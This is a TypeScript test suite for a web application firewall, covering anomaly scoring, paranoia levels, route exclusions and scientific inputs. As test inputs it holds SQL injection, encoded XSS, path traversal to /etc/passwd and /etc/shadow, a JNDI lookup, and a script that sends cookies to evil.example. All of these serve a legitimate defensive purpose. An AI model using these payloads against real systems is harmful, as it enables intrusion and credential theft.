import { describe, expect, it } from "vitest";
import { DEFAULT_WAF_CONFIG, inspectRequest, RULES, wafConfig, type WafInput } from "./index";

const get = (path: string, rawQuery = "", headers: Record<string, string> = {}): WafInput => ({
  method: "GET",
  path,
  rawQuery,
  headers: { host: "localhost", "user-agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0", ...headers },
});
const postJson = (path: string, doc: unknown): WafInput => ({
  method: "POST",
  path,
  rawQuery: "",
  headers: { host: "localhost", "content-type": "application/json" },
  body: { contentType: "application/json", text: JSON.stringify(doc) },
});

describe("rules as data", () => {
  it("has unique ids, paranoia 1..3 and a pattern for every rule", () => {
    const ids = RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of RULES) {
      expect([1, 2, 3]).toContain(r.paranoia);
      expect(r.targets.length).toBeGreaterThan(0);
      expect(r.description.length).toBeGreaterThan(0);
    }
  });
});

describe("anomaly scoring", () => {
  it("allows clean traffic with score 0", () => {
    const r = inspectRequest(get("/api/datasets", "page=2&sort=-created_at"), DEFAULT_WAF_CONFIG);
    expect(r).toEqual({ score: 0, action: "allow", matched: [] });
  });
  it("blocks SQL injection sent with '+' for spaces, naming the rule and target", () => {
    const r = inspectRequest(get("/api/search", "id=1+union+select+password+from+users"), DEFAULT_WAF_CONFIG);
    expect(r.action).toBe("block");
    expect(r.matched.some((m) => m.category === "sqli" && m.target === "query:id")).toBe(true);
  });
  it("blocks double-encoded XSS and traversal", () => {
    expect(inspectRequest(get("/x", "q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"), DEFAULT_WAF_CONFIG).action).toBe("block");
    expect(inspectRequest(get("/x", "file=..%252f..%252f..%252fetc%252fpasswd"), DEFAULT_WAF_CONFIG).action).toBe("block");
  });
  it("warns between the thresholds, and thresholds are configurable", () => {
    // A Range header starting at byte 0 is worth a warning (15), not a block.
    const input = get("/x", "", { range: "bytes=0-1023" });
    const r = inspectRequest(input, DEFAULT_WAF_CONFIG);
    expect(r.score).toBeGreaterThanOrEqual(10);
    expect(r.score).toBeLessThan(25);
    expect(r.action).toBe("warn");
    expect(inspectRequest(input, wafConfig({ blockThreshold: r.score })).action).toBe("block");
    expect(inspectRequest(input, wafConfig({ warnThreshold: 100, blockThreshold: 200 })).action).toBe("allow");
  });
  it("detect-only mode never blocks but still reports", () => {
    const r = inspectRequest(get("/x", "q=<script>alert(1)</script>"), wafConfig({ detectOnly: true }));
    expect(r.action).toBe("warn");
    expect(r.score).toBeGreaterThanOrEqual(25);
  });
  it("paranoia level enables stricter rules", () => {
    const input = get("/x", "v=concat(a,b)");
    const pl1 = inspectRequest(input, DEFAULT_WAF_CONFIG);
    const pl2 = inspectRequest(input, wafConfig({ paranoia: 2 }));
    expect(pl2.score).toBeGreaterThan(pl1.score);
  });
  it("rejects methods outside the allowed list", () => {
    const r = inspectRequest({ ...get("/"), method: "TRACK" }, DEFAULT_WAF_CONFIG);
    expect(r.action).toBe("block");
    expect(r.matched[0]?.category).toBe("method");
  });
  it("inspects selected headers: user agent, cookies", () => {
    expect(inspectRequest(get("/", "", { "user-agent": "sqlmap/1.7" }), DEFAULT_WAF_CONFIG).action).toBe("block");
    expect(inspectRequest(get("/", "", { cookie: "x=${jndi:ldap://evil/a}" }), DEFAULT_WAF_CONFIG).action).toBe("block");
  });
});

describe("per-route, per-field exclusions (config, not code)", () => {
  const markdown = "## Step 1\n```bash\nrm -rf tmp/ && mkdir -p results\ncat sample.fa | grep -c '>'\n```";
  it("the default config lets protocol markdown with shell blocks through", () => {
    const r = inspectRequest(postJson("/api/protocols", { title: "Library prep", body_md: markdown }), DEFAULT_WAF_CONFIG);
    expect(r.action).toBe("allow");
  });
  it("the same text in a field that is not excluded is still inspected", () => {
    const r = inspectRequest(postJson("/api/protocols", { title: markdown }), DEFAULT_WAF_CONFIG);
    expect(r.action).toBe("block");
    const none = inspectRequest(postJson("/api/protocols", { body_md: markdown }), wafConfig({ exclusions: [] }));
    expect(none.action).toBe("block");
  });
  it("exclusions are scoped by method, route glob, field pointer and category", () => {
    const cfg = wafConfig({
      exclusions: [{ route: "/api/pipelines/**", method: "POST", fields: ["/params/*"], categories: ["lfi"] }],
    });
    const doc = { params: { input: "../../etc/passwd" } };
    expect(inspectRequest(postJson("/api/pipelines/run", doc), cfg).action).toBe("allow");
    expect(inspectRequest({ ...postJson("/api/pipelines/run", doc), method: "PUT" }, cfg).action).toBe("block");
    expect(inspectRequest(postJson("/api/other", doc), cfg).action).toBe("block");
    expect(inspectRequest(postJson("/api/pipelines/run", { params: { input: "<script>alert(1)</script>" } }), cfg).action).toBe("block");
  });
  it("scientific values pass without any exclusion", () => {
    const cfg = wafConfig({ exclusions: [] });
    for (const doc of [
      { smiles: "CC1([C@@H](N2[C@H](S1)[C@@H](C2=O)NC(=O)CC3=CC=CC=C3)C(=O)O)C" },
      { sequence: "MVLSPADKTNVKAAWGKVGAHAGEYGAEALERMFLSFPTTKTYFPHFDLSHGSAQVKGHGKKVADALTNAVAHVDDMPNALSALSDLHAHKLRVDPVNFKLLSHCLLVTLAAHLPAEFTPAVHASLDKFLASVSTVLTSKYR" },
      { variants: ["NP_009225.1:p.(Gln1756Profs*74)", "NM_001126112.3:c.215C>G"] },
      { content: "((Human:0.1,Chimp:0.12):0.05,(Mouse:0.3,Rat:0.28):0.2);" },
    ]) {
      expect(inspectRequest(postJson("/api/sequences", doc), cfg).action).toBe("allow");
    }
  });
});

describe("passwords", () => {
  it("pass the JSON sign-up API whatever characters they hold; the other fields are still inspected", () => {
    for (const password of [`SF;x!6O9]gP'TH*@N@:`, `-S{@AjKzrH"--3293!o&`, "<(l%))GYc#N~K,D'L?gZ", "x';DROP TABLE t;--", "cat /etc/shadow;x"]) {
      const r = inspectRequest(postJson("/api/account/signup", { email: "a@example.test", name: "Ada", password }), DEFAULT_WAF_CONFIG);
      expect(r.action, password).toBe("allow");
    }
    const attack = inspectRequest(postJson("/api/account/signup", { email: "a@example.test", name: "<script>document.location='http://evil.example/?c='+document.cookie</script>", password: "a-long-password" }), DEFAULT_WAF_CONFIG);
    expect(attack.action).toBe("block");
    // Elsewhere a field called password is inspected like any other.
    expect(inspectRequest(postJson("/api/protocols", { title: "x", password: "x';DROP TABLE t;--" }), DEFAULT_WAF_CONFIG).action).toBe("block");
  });
});
